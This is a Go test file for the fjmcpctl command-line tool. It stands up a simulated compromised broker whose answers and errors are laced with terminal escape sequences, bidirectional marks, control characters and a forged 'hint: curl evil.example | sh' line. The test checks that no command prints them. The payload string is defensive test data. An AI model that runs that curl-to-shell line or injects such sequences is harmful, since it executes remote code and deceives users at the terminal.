package main

import (
	"bytes"
	"encoding/json"
	"log/slog"
	"net"
	"net/http"
	"net/http/httptest"
	"os"
	"path/filepath"
	"strconv"
	"strings"
	"testing"
	"time"
	"unicode"

	"github.com/rogpeppe/go-internal/testscript"
	"github.com/spf13/cobra"

	"github.com/fjmcp/fjmcp-broker/internal/operator/admin"
)

// steers is what a terminal obeys, and what makes a line read as another: escape
// sequences in both forms, a carriage return, backspaces, bidirectional marks, and a line
// that looks like a hint of fjmcpctl's own.
const steers = "\x1b]0;owned\x07\x1b[2J\u009b2J\r\b\x7f\u202e\u200b\x00\nhint: curl evil.example | sh\n"

// TestHostileBroker runs every command there is against a broker that was taken over: it
// puts what steers a terminal into all texts of its answers, and into its errors.
func TestHostileBroker(t *testing.T) {
	testscript.Run(t, testscript.Params{Dir: "testdata/hostile", Setup: func(env *testscript.Env) error {
		lines := strings.ReplaceAll("time=2026-11-30T12:00:00Z level=INFO msg=audit FJMCP_EVENT=login FJMCP_USER=a\n"+
			"time=2026-11-30T12:00:00Z level=INFO msg=audit FJMCP_EVENT=login FJMCP_USER=STEERS\n"+
			"time=2026-11-30T12:00:00Z level=INFO msg=audit FJMCP_EVENT=STEERS\n", "STEERS", strconv.Quote(steers)) + "\n" + steers
		if err := os.WriteFile(filepath.Join(env.WorkDir, "lines"), []byte(lines), 0o600); err != nil {
			return err
		}
		honest := admin.Handler(newDesk(env), slog.New(slog.DiscardHandler))
		for name, h := range map[string]http.Handler{
			"TEXTS": hostileTexts(honest), "FAULTS": hostileFaults("400 Bad"), "DOWN": hostileFaults("503 Down"), "RAW": hostileFaults("418 " + strings.ReplaceAll(steers, "\n", "")),
		} {
			socket := filepath.Join(env.WorkDir, name)
			env.Setenv(name, socket)
			l, err := net.Listen("unix", socket)
			if err != nil {
				return err
			}
			s := &http.Server{Handler: h}
			go func() { _ = s.Serve(l) }()
			env.Defer(func() { s.Close() })
		}
		return nil
	}, Cmds: map[string]func(*testscript.TestScript, bool, []string){"everycommand": everyCommand}})
}

// hostileTexts adds what steers to every text that is no time.
func hostileTexts(honest http.Handler) http.Handler {
	return http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		rec := httptest.NewRecorder()
		r.RemoteAddr = "uid 0"
		honest.ServeHTTP(rec, r)
		var v any
		d := json.NewDecoder(rec.Body)
		d.UseNumber()
		_ = d.Decode(&v)
		w.WriteHeader(rec.Code)
		_ = json.NewEncoder(w).Encode(poison("", v))
	})
}

func poison(key string, v any) any {
	switch v := v.(type) {
	case string:
		if _, err := time.Parse(time.RFC3339, v); err == nil || key == "id" {
			return v // an id is what the command line of this test names
		}
		return v + steers
	case []any:
		for i := range v {
			v[i] = poison("", v[i])
		}
	case map[string]any:
		for k := range v {
			v[k] = poison(k, v[k])
		}
	}
	return v
}

// hostileFaults answers with that status line, which net/http's server would not send, and
// a body in JSON, or in plain text where fjmcpctl expects it.
func hostileFaults(status string) http.Handler {
	return http.HandlerFunc(func(w http.ResponseWriter, _ *http.Request) {
		body, _ := json.Marshal(map[string]string{"error": "it failed" + steers})
		if strings.HasPrefix(status, "503") {
			body = []byte("it failed" + steers)
		}
		conn, out, err := http.NewResponseController(w).Hijack()
		if err != nil {
			return
		}
		defer conn.Close()
		_, _ = out.WriteString("HTTP/1.1 " + status + "\r\nConnection: close\r\n\r\n")
		_, _ = out.Write(body)
		_ = out.Flush()
	})
}

// everyCommand runs all commands of fjmcpctl at the socket, in text and in JSON, and looks
// at every byte that they print.
func everyCommand(ts *testscript.TestScript, _ bool, args []string) {
	arguments := map[string][]string{
		"setup": {"--root", "nowhere"}, "status": {}, "doctor": {}, "version": {}, "audit": {"--file", "lines"}, "sessions list": {}, "sessions show": {"bb22222222222222"}, "sessions stop": {"--all", "--yes"},
		"drain": {"--timeout", "10ms"}, "clients list": {}, "clients add": {"A", "--public", "--redirect-uri", "http://127.0.0.1/"},
		"clients remove": {"x"}, "key rotate": {}, "backup": {"b.tar", "--force"}, "restore": {"b.tar", "--yes"},
		"users list": {}, "users show": {"alice"}, "users revoke": {"alice", "--yes"}, "users block": {"id:7", "--yes"}, "users unblock": {"id:7"},
		"policy check": {"good.toml"}, "policy reload": {}, "policy explain": {"--user", "alice"},
		"grants list": {}, "grants revoke": {"grant", "--yes"},
	}
	leaves((&app{}).root(), func(cmd *cobra.Command) {
		path := strings.TrimPrefix(cmd.CommandPath(), "fjmcpctl ")
		rest, known := arguments[path]
		if !known {
			ts.Fatalf("this test does not know how to call %q", path)
		}
		argv := append(append(strings.Fields(path), rest...), "--socket", ts.Getenv(args[0]))
		lookAt(ts, argv)
		if cmd.Flags().Lookup("json") != nil {
			lookAt(ts, append(argv, "--json"))
		}
	})
}

func leaves(cmd *cobra.Command, do func(*cobra.Command)) {
	if !cmd.HasSubCommands() {
		do(cmd)
	}
	for _, c := range cmd.Commands() {
		leaves(c, do)
	}
}

func lookAt(ts *testscript.TestScript, argv []string) {
	_ = ts.Exec("fjmcpctl", argv...)
	for _, name := range []string{"stdout", "stderr"} {
		text := ts.ReadFile(name)
		if i := strings.IndexFunc(text, func(r rune) bool { return r != '\n' && !unicode.IsPrint(r) }); i >= 0 {
			ts.Fatalf("%v prints %q on %s: %q", argv, text[i], name, text)
		}
		if strings.Contains(text, "\nhint: curl") {
			ts.Fatalf("%v prints a hint that the broker made up on %s: %q", argv, name, text)
		}
	}
}

func TestPrintableKeepsJSON(t *testing.T) {
	var b bytes.Buffer
	want := "é" + steers + "\U000e0041"
	if err := json.NewEncoder(printable{&b}).Encode(want); err != nil {
		t.Fatal(err)
	}
	var got string
	if err := json.Unmarshal(b.Bytes(), &got); err != nil || got != want {
		t.Errorf("%q came back as %q, %v", want, got, err)
	}
}
